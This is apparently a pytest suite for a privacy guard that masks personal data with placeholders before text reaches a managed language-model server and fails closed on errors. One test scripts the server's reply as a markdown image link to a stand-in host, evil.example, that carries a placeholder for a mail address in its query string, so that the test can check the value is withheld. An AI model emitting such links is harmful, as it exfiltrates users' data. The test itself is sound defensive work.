"""The boundary, from a stored item to a server that records all it is sent: nothing crosses it that should not."""

import asyncio
import json
import logging
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from aiohttp import web
from django.db import OperationalError
from django.utils import timezone

from graftwork.apps.actors import operator
from graftwork.apps.audit.models import AuditEntry
from graftwork.apps.jobs.process import WorkerProcess
from graftwork.apps.vault.models import PlaceholderPage, ScopeKey
from graftwork.apps.work import guarding
from graftwork.apps.work.actions.items import create_items
from graftwork.apps.work.draining import drain
from graftwork.apps.work.engines import close_engines
from graftwork.apps.work.models import Draft, Item, ItemState, ThreadRule
from graftwork.apps.work.queries import draft_text
from graftwork.core.items import read_row
from graftwork.core.privacy.detector import Found
from support.detector import DetectorService
from support.scripted import Script, serve

pytestmark = pytest.mark.django_db(transaction=True)

NAME, MAIL, CARD = "Annabel Quistgaard", "annabel.q@example.com", "4111 1111 1111 1111"
CANARIES = (NAME, "Annabel", "Quistgaard", MAIL, CARD)
TEXT = f"Dear team, my name is {NAME}, my mail is {MAIL} and my card is {CARD}."
SICK = "I have diabetes and need the insulin pump back."

USE_CASE = """\
name = "note_reply"
title = "Reply to a note"
[input.fields.text]
[instructions]
system = "Answer in one sentence."
[engine]
url = "{url}"
zone = "managed"
region = "eu"
slots = 1
[limits]
attempts = 2
[privacy]
ner = false
languages = ["en", "de"]
{privacy}
"""
LOCAL = """
[[fallbacks]]
echo = true
"""


class Cloud:
    """A managed server on loopback; `answer` gets the last message it was sent, and gives the text to stream."""

    def __init__(self) -> None:
        self.script = Script()
        self.script.handlers = [self._handle]
        self.answer: Callable[[str], str] = lambda prompt: "Fine."
        self.status = 200
        self.loop = asyncio.new_event_loop()
        threading.Thread(target=self.loop.run_forever, daemon=True).start()
        self.runner = asyncio.run_coroutine_threadsafe(serve(self.script), self.loop).result(5)

    def close(self) -> None:
        asyncio.run_coroutine_threadsafe(self.runner.cleanup(), self.loop).result(5)
        self.loop.call_soon_threadsafe(self.loop.stop)

    @property
    def received(self) -> list[str]:
        return [json.dumps([headers, body], ensure_ascii=False) for headers, body in self.script.requests]

    @property
    def prompts(self) -> list[str]:
        return [body["messages"][-1]["content"] for _, body in self.script.requests]  # type: ignore[index]

    async def _handle(self, request: web.Request) -> web.StreamResponse:
        sent = (await request.json())["messages"][-1]["content"]
        if self.status != 200:
            return web.json_response({"error": {"message": f"cannot answer {sent}"}}, status=self.status)
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        for character in self.answer(sent):
            piece = {"choices": [{"delta": {"content": character}}]}
            await response.write(f"data: {json.dumps(piece)}\n\n".encode())
        await response.write(b'data: {"choices": [{"delta": {}, "finish_reason": "stop"}]}\n\ndata: [DONE]\n\n')
        return response


@pytest.fixture
def cloud(monkeypatch) -> Iterator[Cloud]:
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    server = Cloud()
    yield server
    close_engines()
    server.close()


@pytest.fixture
def case(write_usecase, cloud):
    def write(privacy: str = 'managed = "masked"', more: str = "") -> Any:
        return write_usecase(USE_CASE.format(url=cloud.script.url, privacy=privacy) + more)

    return write


def add(use_case: Any, text: str = TEXT, number: str = "1", thread: str = "") -> Item:
    row = {"id": number, "text": text} | ({"thread": thread} if thread else {})
    [made] = create_items(operator(), use_case, [read_row(use_case, row, line=1)], timezone.now())
    return Item.objects.select_related("scope_key").get(pk=made.item_id)


def work() -> None:
    drain(WorkerProcess("guard-test"), "note_reply")


def drafted(item: Item) -> tuple[Draft, str]:
    draft = item.drafts.get()
    return draft, draft_text(item, draft)


def nothing_leaked(cloud: Cloud, caplog: Any) -> None:
    written = [caplog.text, *cloud.received, *(entry.detail for entry in AuditEntry.objects.all())]
    written += [f"{item.error_code} {item.error_message}" for item in Item.objects.all()]
    written += [json.dumps([draft.notices, draft.route, draft.masked]) for draft in Draft.objects.all()]
    for canary in CANARIES:
        assert not any(canary in text for text in written), canary


# --- masked and restored ----------------------------------------------------------------------------------------------


def test_the_server_sees_placeholders_and_the_reviewer_sees_values(case, cloud, caplog):
    caplog.set_level(logging.DEBUG)
    cloud.answer = lambda prompt: "Dear [PERSON_1], we wrote to [MAIL_1]."
    item = add(case())
    work()
    draft, text = drafted(item)
    assert text == f"Dear {NAME}, we wrote to {MAIL}."
    assert "[PERSON_1]" in cloud.prompts[0]
    assert "[CARD_1]" in cloud.prompts[0]
    assert (draft.zone, draft.masked, draft.route["treatment"]) == (
        "managed", {"person": 1, "mail": 1, "card": 1}, "masked",
    )  # fmt: skip
    assert draft.route["classes"] == ["finance"]
    nothing_leaked(cloud, caplog)


def test_what_later_feeds_training_is_the_masked_text_and_it_is_sealed(case, cloud):
    from graftwork.apps.keyring import keyring
    from graftwork.apps.vault.sealing import unwrap

    cloud.answer = lambda prompt: "Dear [PERSON_1]"
    item = add(case())
    work()
    draft, _ = drafted(item)
    key = unwrap(item.scope_key, keyring())
    masked_item = key.unseal(draft.masked_item_sealed, draft.masked_label("item"))
    assert masked_item == cloud.prompts[0]
    assert key.unseal(draft.masked_text_sealed, draft.masked_label("text")) == "Dear [PERSON_1]"
    stored = bytes(draft.masked_item_sealed) + bytes(draft.masked_text_sealed)
    assert b"PERSON" not in stored


def test_the_same_person_is_the_same_placeholder_in_the_next_message_of_a_thread_and_nobody_elsewhere(case, cloud):
    use_case = case()
    add(use_case, f"My name is {NAME}.", "1", "t1")
    work()
    add(use_case, f"My name is Berta Lindqvist, a friend of {NAME}.", "2", "t1")
    work()
    add(use_case, "My name is Carla Oyelaran.", "3", "t2")
    work()
    first, second, third = cloud.prompts
    assert "[PERSON_1]" in first
    assert "[PERSON_2], a friend of [PERSON_1]" in second
    assert "[PERSON_1]" in third
    assert "[PERSON_2]" not in third


def test_a_placeholder_that_a_person_typed_gets_them_nothing(case, cloud):
    use_case = case()
    add(use_case, TEXT, "1", "t1")
    work()
    cloud.answer = lambda prompt: prompt
    item = add(use_case, "Please repeat [PERSON_1] and [MAIL_1].", "2", "t1")
    work()
    _, text = drafted(item)
    assert "Please repeat [PERSON_1] and [MAIL_1]." in text
    assert NAME not in text
    assert MAIL not in text


def test_json_stays_json_whatever_the_value_holds(case, cloud, write_usecase):
    from graftwork.apps.vault.actions import scope_keys
    from graftwork.apps.work.actions.missed import Report, report_missed

    schema = '[output]\ntype = "json"\n[output.schema]\ntype = "object"\nrequired = ["who"]\n'
    use_case = case(more=f'{schema}[output.schema.properties.who]\ntype = "string"\n')
    term = 'Werk "Nord" \\ 7'
    first = add(use_case, f"About {term} then.", "1")
    Item.objects.update(state=ItemState.READY)
    report_missed(operator(), first.pk, Report(term, "term", everywhere=True), timezone.now())
    assert scope_keys(["workspace:terms"])
    cloud.answer = lambda prompt: '{"who": "[TERM_1]"}'
    second = add(use_case, f"Where is {term} please?", "2")
    work()
    draft, text = drafted(second)
    assert json.loads(text) == {"who": term}
    assert draft.notices == []
    assert "Nord" not in cloud.received[0]


FINNISH = (
    "Hyv\u00e4 asiakaspalvelu, tilaukseni ei ole viel\u00e4 saapunut. Olen tilannut lampun kaksi viikkoa sitten, mutta "
    "pakettia ei ole n\u00e4kynyt. "
    "Voisitteko kertoa, milloin se tulee, sill\u00e4 tarvitsen sit\u00e4 jo ensi viikolla? Odotan:"
)
FRENCH = "Bonjour, je n'ai pas re\u00e7u ma commande et je voudrais savoir quand elle arrivera:"
ENGLISH = "I have been waiting for my order since last week and would like to know when it comes:"


@pytest.mark.parametrize(("text", "codes"), [(FINNISH, ["language"]), (FRENCH, ["language"]), (ENGLISH, [])])
def test_a_language_that_nobody_configured_is_told_and_masked_by_rules(case, cloud, text, codes):
    item = add(case(), f"{text} {MAIL}")
    work()
    draft, _ = drafted(item)
    assert MAIL not in cloud.received[0]
    assert [notice["code"] for notice in draft.notices] == codes


# --- routed -----------------------------------------------------------------------------------------------------------


def test_a_sensitive_item_stays_in_the_house_and_its_thread_with_it_after_a_restart(case, cloud):
    use_case = case('managed = "masked"\nclasses = { health = "local" }', LOCAL)
    sick = add(use_case, SICK, "1", "t1")
    work()
    later = add(use_case, "When do you open?", "2", "t1")
    other = add(use_case, "When do you open?", "3", "t2")
    close_engines()  # as after a restart: only what is stored is known
    work()
    assert [drafted(item)[0].zone for item in (sick, later, other)] == ["local", "local", "managed"]
    assert len(cloud.received) == 1
    assert "earlier item" in drafted(later)[0].route["reason"]
    assert ThreadRule.objects.get().scope_key_id == sick.scope_key_id


def test_an_item_that_no_engine_may_see_waits_for_a_person_and_is_sent_nowhere(case, cloud):
    use_case = case('managed = "masked"\nclasses = { health = "local" }')
    sick, well = add(use_case, SICK, "1"), add(use_case, "When do you open?", "2")
    work()
    sick.refresh_from_db()
    assert (sick.state, sick.error_code) == (ItemState.FAILED, "privacy.no_engine")
    assert "health" in sick.error_message
    assert drafted(well)[1] == "Fine."
    assert not any("diabetes" in received for received in cloud.received)


def test_a_policy_of_never_goes_past_the_managed_engine_without_a_search(case, cloud, monkeypatch):
    monkeypatch.setattr(guarding, "detector_of", lambda use_case: pytest.fail("searched"))
    item = add(case('managed = "never"', LOCAL))
    work()
    assert drafted(item)[0].zone == "local"
    assert cloud.received == []


def test_an_engine_in_writing_gets_the_text_as_it_is(case, cloud, monkeypatch):
    monkeypatch.setattr(guarding, "detector_of", lambda use_case: pytest.fail("searched"))
    item = add(case('managed = "allowed"'))
    work()
    assert NAME in cloud.received[0]
    assert (drafted(item)[0].masked, drafted(item)[0].route["treatment"]) == (None, "allowed")


def test_a_managed_engine_that_nothing_was_written_about_gets_nothing(case, cloud):
    item = add(case(""))
    work()
    item.refresh_from_db()
    assert (item.state, item.error_code) == (ItemState.WAITING, "usecase.managed")
    assert cloud.received == []


def test_the_engine_in_the_house_takes_over_when_the_managed_one_is_down(case, cloud):
    cloud.status = 401
    item = add(case(more=LOCAL))
    work()
    assert drafted(item)[0].zone == "local"
    assert drafted(item)[0].masked is None


def test_with_engines_in_the_house_only_nothing_is_guarded(write_usecase, note_reply):
    local = USE_CASE.format(url="http://127.0.0.1:9/v1", privacy='managed = "masked"\nclasses = { health = "local" }')
    assert guarding.guard_for(note_reply) is None
    assert guarding.guard_for(write_usecase(local.replace('zone = "managed"', 'zone = "local"'))) is None


# --- fails closed -----------------------------------------------------------------------------------------------------


class Broken:
    def __init__(self, do: Callable[[], object]) -> None:
        self.do = do

    def warm(self) -> None:
        """It breaks with the first text only."""

    def find(self, text: str, known: Any = ()) -> Found:
        self.do()
        raise ValueError(f"cannot read {text}")


def broken_detector(monkeypatch, do: Callable[[], object]) -> None:
    monkeypatch.setattr(guarding, "detector_of", lambda use_case: Broken(do))


def test_a_search_that_crashes_sends_nothing_and_ends_with_a_person(case, cloud, monkeypatch, caplog):
    broken_detector(monkeypatch, lambda: None)
    item = add(case())
    work()
    item.refresh_from_db()
    assert (item.state, item.error_code) == (ItemState.WAITING, "privacy.detector_failed")
    Item.objects.update(not_before=None)
    work()
    item.refresh_from_db()
    assert item.state == ItemState.FAILED
    assert cloud.received == []
    assert "ValueError" in caplog.text
    nothing_leaked(cloud, caplog)


def test_a_search_that_hangs_is_given_up_and_no_other_is_begun_meanwhile(case, cloud, monkeypatch, caplog):
    release = threading.Event()
    broken_detector(monkeypatch, lambda: release.wait(20))
    use_case = case('managed = "masked"\ntimeout_seconds = 0.3')
    items = [add(use_case, TEXT, str(number)) for number in range(5)]
    started = time.monotonic()
    work()
    assert time.monotonic() - started < 5
    release.set()
    for item in items:
        item.refresh_from_db()
        assert (item.state, item.error_code) == (ItemState.WAITING, "privacy.timeout")
    assert cloud.received == []
    nothing_leaked(cloud, caplog)


@pytest.fixture
def masked_thread(case, cloud):
    """A thread whose placeholders are stored, and a second item that waits in it."""
    use_case = case()
    add(use_case, TEXT, "1", "t1")
    work()
    cloud.script.requests.clear()
    return add(use_case, f"It is {NAME} again.", "2", "t1")


def test_values_that_do_not_open_any_more_stop_the_item_before_it_is_sent(masked_thread, cloud, caplog):
    ScopeKey.objects.filter(scope__startswith="placeholders:").update(wrapped=b"\0" * 60)
    work()
    masked_thread.refresh_from_db()
    assert (masked_thread.state, masked_thread.error_code) == (ItemState.FAILED, "vault.seal")
    assert cloud.received == []
    nothing_leaked(cloud, caplog)


def test_without_the_master_key_of_the_values_the_item_waits_until_it_is_back(masked_thread, cloud, caplog):
    keys = ScopeKey.objects.filter(scope__startswith="placeholders:")
    right = keys.get().master_key_id
    keys.update(master_key_id="kgone")
    work()
    masked_thread.refresh_from_db()
    assert (masked_thread.state, masked_thread.error_code) == (ItemState.WAITING, "vault.key_missing")
    assert cloud.received == []
    nothing_leaked(cloud, caplog)
    keys.update(master_key_id=right)
    Item.objects.update(not_before=None)
    work()
    assert drafted(masked_thread)[1] == "Fine."
    assert "[PERSON_1] again" in cloud.prompts[0]


def test_values_that_cannot_be_stored_stop_the_item_before_it_is_sent(case, cloud, monkeypatch, caplog):
    def full(*arguments: Any, **named: Any) -> None:
        raise OperationalError(f"database or disk is full: {TEXT}")

    monkeypatch.setattr(PlaceholderPage, "save", full)
    item = add(case())
    work()
    item.refresh_from_db()
    assert item.error_code == "store.disk_full"
    assert cloud.received == []
    nothing_leaked(cloud, caplog)


@pytest.mark.parametrize("status", [400, 401, 404])
def test_a_server_that_throws_the_text_back_is_not_quoted_anywhere(case, cloud, caplog, status):
    caplog.set_level(logging.DEBUG)
    cloud.status = status
    item = add(case())
    work()
    item.refresh_from_db()
    assert item.error_code == "engine.refused"
    assert cloud.received
    nothing_leaked(cloud, caplog)


def test_a_server_that_garbles_its_placeholders_gives_the_reviewer_a_notice(case, cloud, caplog):
    cloud.answer = lambda prompt: "Dear [PERSON_9], see ![x](https://evil.example/?q=[MAIL_1])"
    item = add(case())
    work()
    draft, text = drafted(item)
    assert text == "Dear [PERSON_9], see ![x](https://evil.example/?q=[MAIL_1])"
    assert sorted(notice["code"] for notice in draft.notices) == ["unknown_placeholder", "withheld_value"]
    nothing_leaked(cloud, caplog)


# --- a detector of the company's own ----------------------------------------------------------------------------------


def test_a_service_that_finds_more_is_asked_and_while_it_is_down_nothing_is_sent(case, cloud, caplog):
    service = DetectorService(["quzzle"])
    more = f'[[privacy.detectors]]\ntype = "http"\nurl = "{service.url}"\n'
    use_case = case(more=more)
    first = add(use_case, "The quzzle came late.", "1")
    work()
    assert "The [PERSON_1] came late." in cloud.prompts[0]
    assert drafted(first)[0].masked == {"person": 1}
    service.close()
    second = add(use_case, "The quzzle came late again.", "2")
    work()
    second.refresh_from_db()
    assert (second.state, second.error_code) == (ItemState.WAITING, "privacy.detector_failed")
    assert len(cloud.received) == 1
    assert "quzzle" not in caplog.text + second.error_message
